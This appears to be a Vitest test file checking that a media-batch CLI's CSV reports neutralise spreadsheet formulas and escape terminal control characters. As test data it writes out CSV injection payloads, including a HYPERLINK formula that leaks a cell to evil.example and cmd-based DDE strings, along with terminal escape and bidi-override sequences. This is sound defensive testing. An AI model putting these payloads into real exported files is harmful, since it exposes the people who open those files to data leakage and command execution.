import { readFileSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { RUN_CSV_COLUMNS, runCsvChunks } from '../../src/report/csv.js';
import type { StatusJob } from '../../src/report/status.js';
import { startSimulator, type Simulator } from '../../src/sim/index.js';
import { textOf } from '../helpers/chunks.js';
import { tempDir } from '../helpers/cli.js';
import { mainInProcess } from '../helpers/main-in-process.js';
import { speechManifest, startProxy, type Scripted } from './servers.js';

/** What a spreadsheet would run as a formula if a cell started with it. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"details")', "+cmd|' /C calc'!A0", '-2+3+cmd|x', '@SUM(1+1)*cmd|x'];

const STATUS = /^\/api\/v1\/client\/request-status\/([^/?]+)/;

/** The cells of a CSV without quoted newlines (what the run writes here). */
function cells(csv: string): string[][] {
  return csv
    .trim()
    .split('\n')
    .map((line) => [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].map((m) => (m[1] ?? '').replace(/^"|"$/g, '').replaceAll('""', '"')).slice(0, 9));
}

describe('CSV reports neutralise formulas from the service', () => {
  let sim: Simulator;
  let proxy: Scripted;
  let dir: string;
  let cleanup: () => Promise<void>;

  beforeEach(async () => {
    ({ dir, cleanup } = await tempDir('mediabatch-csv-'));
    sim = await startSimulator({ pendingMs: { txt2audio: 10, img2video: 10 }, processingMs: { txt2audio: 20, img2video: 20 } });
    // Each job's status says it failed, its error code one of the formulas, in order of first poll.
    const formulaOf = new Map<string, string>();
    proxy = await startProxy(sim.url, {
      any: (req) => {
        const id = req.method === 'GET' ? STATUS.exec(req.url)?.[1] : undefined;
        if (id === undefined) return undefined;
        if (!formulaOf.has(id)) formulaOf.set(id, FORMULAS[formulaOf.size % FORMULAS.length] ?? '');
        const data = { status: 'error', error_code: formulaOf.get(id), error_message: 'failed', retryable: false, refunded: false };
        return { status: 200, body: JSON.stringify({ data }) };
      },
    });
  });
  afterEach(async () => {
    await proxy.close();
    await sim.close();
    await cleanup();
  });

  it('a cell starting with = + - @ gets a leading quote in <name>.run.csv; prices stay numbers', async () => {
    const manifest = path.join(dir, 'batch.yaml');
    const jobs = FORMULAS.map((_, i) => ({ id: `job${i}`, text: `Line number ${i}.` }));
    await writeFile(manifest, speechManifest(jobs));
    // The CLI's main in this process: the file it writes, without a start-up.
    const run = await mainInProcess(['run', manifest, '--base-url', proxy.url, '--plan', 'unlimited', '--poll-ms', '50', '--concurrency', '1'], { MEDIABATCH_TOKEN: sim.token });
    expect(run.code, run.stderr).toBe(1);

    const [header, ...rows] = cells(readFileSync(path.join(dir, 'batch.run.csv'), 'utf8'));
    expect(header).toEqual(['id', 'type', 'model', 'state', 'price_usd', 'price_source', 'request_id', 'output', 'error']);
    expect(rows).toHaveLength(FORMULAS.length);
    const errors = rows.map((row) => row[8] ?? '');
    expect(errors.sort()).toEqual(FORMULAS.map((formula) => `'${formula}: failed`).sort());
    for (const row of rows) {
      expect(row[3]).toBe('failed');
      expect(row[4]).toMatch(/^\d+\.\d+$/);
    }
  });
});

describe('CSV reports escape control characters in every text cell', () => {
  /** What a hostile manifest or service puts in a text: a window title, a forged line, a bidi override. */
  const HOSTILE = '\u001b]0;pwned\u0007 x\rall jobs done \u202eevil';

  it('tags, model, output and error of <name>.run.csv and status --format csv: visible escapes, formulas still guarded', async () => {
    const job: StatusJob = {
      id: 'job1',
      type: 'txt2audio',
      model: `Kokoro${HOSTILE}`,
      priceSource: 'quoted',
      state: 'failed',
      requestId: 'r1',
      priceMicro: 1000,
      output: `/tmp/out${HOSTILE}/job1.mp3`,
      error: `\tboom${HOSTILE}`,
      tags: [`=HYPERLINK("x")${HOSTILE}`, HOSTILE],
    };
    const csv = await textOf(runCsvChunks([job]));
    const [header, row, ...rest] = csv.split('\n');
    expect(rest).toEqual(['']);
    expect(header).toBe(RUN_CSV_COLUMNS.join(','));
    // The only line breaks are the records' (one in a cell would stay, quoted); nothing else can drive a terminal.
    expect(csv.replaceAll('\n', '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    const escaped = '\\x1b]0;pwned\\x07 x\\x0dall jobs done \\u202eevil';
    expect(row).toContain(`Kokoro${escaped}`);
    expect(row).toContain(`/tmp/out${escaped}/job1.mp3`);
    // A tab before a formula is shown, not hidden: the cell no longer starts a formula either way.
    expect(row).toContain(`\\x09boom${escaped}`);
    expect(row).toContain(`"'=HYPERLINK(""x"")${escaped};${escaped}"`);
  });
});
